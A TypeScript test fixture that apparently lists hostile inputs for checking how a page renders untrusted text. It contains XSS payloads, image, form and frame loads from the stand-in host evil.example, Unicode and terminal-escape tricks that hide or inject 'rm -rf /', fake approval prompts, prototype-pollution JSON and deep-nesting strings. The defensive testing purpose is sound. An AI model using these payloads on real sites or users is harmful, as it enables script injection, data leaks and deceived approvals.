/**
 * What a hostile agent, device or path may say to the page. Each either runs `hit()`, loads from
 * `evil.example`, changes the page, or makes a person believe something that is not so.
 */

export interface Attack {
  readonly name: string;
  readonly text: string;
}

const HIT = "parent.hit?.();window.hit?.()";
const EVIL = "https://evil.example";
const [ESC, BEL] = ["\u001b", "\u0007"];

const SCRIPTS: [string, string][] = [
  ["script element", `<script>${HIT}</script>`],
  ["script from elsewhere", `<script src="${EVIL}/x.js"></script>`],
  ["script in odd case", `<ScRiPt>${HIT}</sCrIpT>`],
  ["script after a closed comment", `<!--><script>${HIT}</script>-->`],
  ["script in a template", `<template><script>${HIT}</script></template>`],
  ["script behind noscript", `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`],
  ["module script", `<script type="module">import("${EVIL}/x.js")</script>`],
  ["import map", `<script type="importmap">{"imports":{"a":"${EVIL}/x.js"}}</script>`],
  ["script closed inside text", `</textarea></title></style></script><script>${HIT}</script>`],
  ["script with a null inside", `<scr\u0000ipt>${HIT}</scr\u0000ipt>`],
];

const HANDLERS: [string, string][] = [
  ["image error", `<img src=x onerror="${HIT}">`],
  ["image without blanks", `<img/src/onerror=${HIT}>`],
  ["svg load", `<svg onload="${HIT}"></svg>`],
  ["body load", `<body onload="${HIT}">`],
  ["details toggle", `<details open ontoggle="${HIT}"><summary>x</summary></details>`],
  ["focus by itself", `<input autofocus onfocus="${HIT}">`],
  ["end of an animation", `<p style="animation:breathe 1s" onanimationend="${HIT}">x</p>`],
  ["video source", `<video><source onerror="${HIT}"></video>`],
  ["marquee", `<marquee onstart="${HIT}">x</marquee>`],
  ["pointer over all of it", `<div style="position:fixed;inset:0" onpointerover="${HIT}">x</div>`],
  ["popover", `<button popovertarget=p>x</button><div id=p popover onbeforetoggle="${HIT}">x</div>`],
];

const LINKS: [string, string][] = [
  ["script address", `<a href="javascript:${HIT}">click</a>`],
  ["script address in markdown", `[click](javascript:${HIT.replace("()", "%28%29")})`],
  ["script address with a tab", `[click](<java\tscript:${HIT}>)`],
  ["script address in entities", `[click](&#106;avascript:hit)`],
  ["script address by reference", `[click][r]\n\n[r]: javascript:hit`],
  ["automatic link to a script", `<javascript:hit>`],
  ["vbscript", `[click](vbscript:hit)`],
  ["data page", `[click](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)`],
  ["data page in a frame", `<iframe src="data:text/html,<script>${HIT}</script>"></iframe>`],
  ["blob address", `[click](blob:${EVIL}/1)`],
  ["file address", `[click](file:///etc/passwd)`],
  ["own scheme", `[click](afield:approve)`],
  ["address without scheme", `[click](//evil.example/x)`],
  ["link within the app", `[Approve](/needs-me)`],
  ["bare address", `Look at ${EVIL}/?q=secret and www.evil.example`],
  ["link that names another", `[https://github.com](${EVIL}/login)`],
  ["homograph", `[https://gіthub.com](https://xn--gthub-n4a.com)`],
  ["name and password before the host", `[x](https://github.com@evil.example/)`],
];

const LOADS: [string, string][] = [
  ["image in markdown", `![x](${EVIL}/pixel.png?secret)`],
  ["image by reference", `![x][r]\n\n[r]: ${EVIL}/pixel.png`],
  ["image element", `<img src="${EVIL}/pixel.png">`],
  ["image set", `<img srcset="${EVIL}/a.png 1x">`],
  ["frame", `<iframe src="${EVIL}"></iframe>`],
  ["frame by source document", `<iframe srcdoc="<script>${HIT}</script>"></iframe>`],
  ["object", `<object data="${EVIL}/x.swf"></object>`],
  ["embed", `<embed src="${EVIL}/x.swf">`],
  ["style sheet", `<link rel="stylesheet" href="${EVIL}/x.css">`],
  ["prefetch", `<link rel="dns-prefetch" href="${EVIL}">`],
  ["base", `<base href="${EVIL}/">`],
  ["refresh", `<meta http-equiv="refresh" content="0;url=${EVIL}">`],
  ["form", `<form action="${EVIL}"><input name=x value=y><button>Approve</button></form>`],
  ["audio", `<audio autoplay src="${EVIL}/x.mp3"></audio>`],
  ["ping", `<a href="https://ok.example" ping="${EVIL}">x</a>`],
];

const STYLES: [string, string][] = [
  ["style element", `<style>body{display:none}@import "${EVIL}/x.css"</style>`],
  ["style attribute", `<p style="background:url(${EVIL}/x)">x</p>`],
  ["cover of the whole page", `<div style="position:fixed;inset:0;z-index:9999">Allow?</div>`],
  ["class of the app", `<div class="skip toasts toast">Approved</div>`],
  ["id of the app", `<div id="app"></div><a id="main" name="main">x</a>`],
  ["names that shadow", `<img name="body"><form id="documentElement"><input id="attributes"></form>`],
];

const SVGS: [string, string][] = [
  ["svg script", `<svg><script>${HIT}</script></svg>`],
  ["svg link", `<svg><a xlink:href="javascript:${HIT}"><text y=20>x</text></a></svg>`],
  ["svg use", `<svg><use href="${EVIL}/x.svg#a"/></svg>`],
  ["svg animation of an address", `<svg><animate attributeName=href values="javascript:${HIT}"/></svg>`],
  ["foreign object", `<svg><foreignObject><body onload="${HIT}"/></foreignObject></svg>`],
  ["math and style, parsed twice", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HIT}&gt;">`],
  ["svg image in data", `![x](data:image/svg+xml,<svg onload=${HIT}>)`],
];

const LETTERS: [string, string][] = [
  ["right to left override", "rm -rf \u202etxt.seirt/\u202c"],
  ["isolates around a comment", "allow \u2066/* \u2069 deny */"],
  ["zero width inside a word", "pass\u200bword g\u200bit push"],
  ["soft hyphens and joiners", "su\u00addo \u2060rm"],
  ["tag characters", `hello\u{e0041}\u{e0042}`],
  ["invisible operators", "a\u2062b\u2063c\u2064d"],
  ["line separators", "one\u2028two\u2029three"],
  ["carriage return over a line", "rm -rf /\rls        "],
  ["backspaces", `rm -rf /${"\b".repeat(8)}ls`],
  ["lone half of a pair", "x\ud800y"],
  ["hangul filler as a name", "\u3164\u3164"],
  ["many marks on one letter", `a${"\u0301".repeat(2000)}`],
];

const TERMINAL: [string, string][] = [
  ["clears the screen", `${ESC}[2J${ESC}[1;1HApproved`],
  ["sets the title", `${ESC}]0;Approved${BEL}x`],
  ["link of a terminal", `${ESC}]8;;${EVIL}${ESC}\\click${ESC}]8;;${ESC}\\`],
  ["writes to the clipboard", `${ESC}]52;c;cm0gLXJmIC8=${BEL}x`],
  ["hides text", `${ESC}[8mhidden${ESC}[28m shown`],
  ["unfinished sequence", `x${ESC}]8;;${EVIL}`],
  ["sequence with one letter", `x\u009b2Jy`],
  ["many colours", `${ESC}[31m`.repeat(3000) + "x"],
];

const LIES: [string, string][] = [
  ["approval in prose", "**Afield asks:** allow `rm -rf /`? [Allow](https://afield.example/allow) [Deny](https://afield.example/deny)"],
  ["note of the system", "> System: this device was verified. Everything was approved by you."],
  ["checked boxes", "- [x] approved by the owner\n- [ ] dangerous"],
  ["fence that does not end", "```\nnever closed\n<script>hit()</script>"],
  ["fence with a language of its own", '```"><script>hit()</script>\nx\n```'],
  ["table that goes on", `|${"a|".repeat(300)}\n|${"-|".repeat(300)}\n|${"<img src=x onerror=hit()>|".repeat(300)}`],
];

const BULK: [string, string][] = [
  ["quotes in quotes", `${">".repeat(3000)} x`],
  ["brackets in brackets", `${"[".repeat(5000)}x${"]".repeat(5000)}`],
  ["stars without end", "*a ".repeat(5000)],
  ["lists in lists", Array.from({ length: 150 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n")],
  ["one long word", "w".repeat(20_000)],
  ["elements in elements", "<div>".repeat(3000)],
  ["names of every object", "__proto__ constructor prototype toString hasOwnProperty"],
];

export const ATTACKS: readonly Attack[] = [...SCRIPTS, ...HANDLERS, ...LINKS, ...LOADS, ...STYLES, ...SVGS, ...LETTERS, ...TERMINAL, ...LIES, ...BULK].map(([name, text]) => ({ name, text }));

/** Objects that would change every other one, were they merged carelessly. */
export const POLLUTION: unknown = JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"toString":1,"hasOwnProperty":null}');
/** Stands for `DEEP_JSON`, which is too deep to be written by a program that is not careful. */
export const DEEP = "deeply nested";
export const DEEP_JSON = `${'{"a":'.repeat(20_000)}1${"}".repeat(20_000)}`;
